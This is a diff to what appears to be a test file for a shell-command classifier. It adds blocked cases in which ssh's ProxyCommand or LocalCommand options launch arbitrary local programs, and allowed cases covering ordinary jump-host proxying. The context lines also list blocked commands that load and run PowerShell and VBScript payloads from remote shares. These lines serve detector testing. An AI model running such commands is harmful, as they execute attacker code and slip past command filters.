@@ -79,6 +79,12 @@ const blocked: Array<[string, Shell, string]> = [
   ['Import-Module \\\\198.51.100.7\\s\\m.psm1; Invoke-Payload', 'powershell', 'proxy.network-share.remote'],
   ['powershell -ep bypass -File \\\\10.1.2.3\\s\\p.ps1', 'cmd', 'proxy.network-share.remote'],
   ['cscript \\\\live.example.net\\DavWWWRoot\\p.vbs', 'cmd', 'proxy.network-share.remote'],
+  // ssh starting a local program instead of relaying
+  ['ssh -o ProxyCommand=calc.exe .', 'cmd', 'proxy.ssh.command'],
+  ['ssh -o ProxyCommand="cmd /c C:\\Users\\Public\\p.exe" .', 'cmd', 'proxy.ssh.command'],
+  ['ssh -oProxyCommand="sh -c \'id > /tmp/o\'" x', 'bash', 'proxy.ssh.command'],
+  ['ssh -o "ProxyCommand /tmp/.x/run %h" host1', 'bash', 'proxy.ssh.command'],
+  ['ssh -o PermitLocalCommand=yes -o LocalCommand=/tmp/p.sh host1', 'bash', 'proxy.ssh.command'],
 ];
 
 const flagged: Array<[string, Shell, string]> = [
@@ -90,6 +96,11 @@ const flagged: Array<[string, Shell, string]> = [
 ];
 
 const allowed: Array<[string, Shell]> = [
+  ['ssh -o ProxyCommand="ssh -W %h:%p bastion.example.com" db01', 'bash'],
+  ["ssh -o 'ProxyCommand nc -X connect -x proxy.example.com:3128 %h %p' host1", 'bash'],
+  ['ssh -o ProxyCommand="exec ssh -W %h:%p jump" host1', 'bash'],
+  ['ssh -o "ProxyCommand=C:\\Windows\\System32\\OpenSSH\\ssh.exe -W %h:%p jump" srv01', 'cmd'],
+  ['ssh -o ProxyCommand=none host1', 'bash'],
   ['copy \\\\deploy\\share\\agent.msi C:\\Temp\\', 'cmd'],
   ['dir \\\\fileserver\\logs', 'cmd'],
   ['net use Z: \\\\fileserver\\share', 'cmd'],
